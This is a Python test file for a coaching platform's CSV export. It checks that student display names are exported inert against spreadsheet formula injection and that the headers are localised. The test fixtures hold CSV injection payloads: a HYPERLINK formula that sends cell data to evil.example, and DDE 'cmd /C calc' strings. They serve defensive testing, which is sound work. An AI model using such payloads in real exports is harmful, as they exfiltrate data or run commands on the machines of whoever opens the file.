"""The coach's CSV export: human labels in the coach's language, times to the second, and no
cell that a spreadsheet would run as a formula, whatever students call themselves."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import httpx
import pytest
from sqlalchemy import select

from ictarena.accounts.models import CohortMember, Role, User
from ictarena.db import Database
from ictarena.http.spreadsheet import cell
from ictarena.submissions.reports import NormalReport
from ictarena.workers.queue import InProcessQueue
from tests.arena.helpers import UserFactory, log_in
from tests.arena.pages import Site, judged

Client = tuple[httpx.AsyncClient, InProcessQueue]
ACCEPTED = NormalReport("AC", 100.0, 100.0, [], {})
HOSTILE = {
    "eq": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
    "wide": "＝1+2",
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＠x", "'＠x"),
        ("Wang = Fang", "Wang = Fang"),
        ("韩梅", "韩梅"),
        ("", ""),
        (None, ""),
        (3, 3),
        (datetime(2026, 5, 4, 3, 2, 1, 987654, tzinfo=UTC), "2026-05-04 03:02:01"),
    ],
    ids=repr,
)
def test_a_cell_is_written_inert(value: object, written: object) -> None:
    assert cell(value) == written  # type: ignore[arg-type]


async def _cohort_of_hostile_names(
    users: UserFactory, committed_db: Database, site: Site
) -> tuple[User, int]:
    coach = await users(Role.COACH)
    cohort = await users.cohort(coach)
    async with committed_db.session() as session:
        for key, name in HOSTILE.items():
            student = await users(Role.STUDENT, f"s-{key}")
            student = await session.get(User, student.id)
            assert student is not None
            student.display_name = name
            session.add(CohortMember(cohort_id=cohort.id, user_id=student.id))
        await session.commit()
        first = await session.scalar(select(User.id).where(User.username == "s-eq"))
        assert first is not None
    await judged(committed_db, first, site.code, {"main": "x"}, ACCEPTED, "cpp")
    return coach, cohort.id


def _rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


async def test_hostile_display_names_are_exported_inert(
    client: Client, users: UserFactory, committed_db: Database, site: Site
) -> None:
    http, _queue = client
    coach, cohort = await _cohort_of_hostile_names(users, committed_db, site)
    await log_in(http, coach.username)
    response = await http.get(f"/coach/progress.csv?cohort={cohort}")
    rows = _rows(response)
    names = {row[0]: row[1] for row in rows[1:]}
    assert names == {f"s-{key}": "'" + name for key, name in HOSTILE.items()}
    for row in rows:  # nothing anywhere starts like a formula
        assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")], row
    assert b'"\'=HYPERLINK(""http://evil.example/' in response.content  # quoted, as OWASP says


async def test_the_export_speaks_the_coachs_language_with_times_to_the_second(
    client: Client, users: UserFactory, committed_db: Database, site: Site
) -> None:
    http, _queue = client
    coach, cohort = await _cohort_of_hostile_names(users, committed_db, site)
    await log_in(http, coach.username)
    english = _rows(await http.get(f"/coach/progress.csv?cohort={cohort}"))
    header = english[0]
    assert header[:4] == ["Username", "Name", "Solved", "Last activity (UTC)"]
    assert "Basics" in header and "Product proficiency (%)" in header
    assert not [h for h in header if "_" in h]  # no raw codes (logical_reasoning, prog-basics)
    solver = next(row for row in english[1:] if row[2] == "1")
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", solver[3]), solver[3]
    assert solver[header.index("Basics")] == "Done"
    assert solver[header.index("Graphs")] == "Open"
    assert solver[header.index("Advanced")] == "Locked"

    async with committed_db.session() as session:
        stored = await session.get(User, coach.id)
        assert stored is not None
        stored.locale = "zh_Hans"
        await session.commit()
    chinese = _rows(await http.get(f"/coach/progress.csv?cohort={cohort}"))
    header = chinese[0]
    assert header[:4] == ["用户名", "姓名", "已解决", "最近活动（UTC）"]
    assert "基础" in header and "产品熟练度（%）" in header
    solver = next(row for row in chinese[1:] if row[2] == "1")
    assert solver[header.index("基础")] == "已完成"
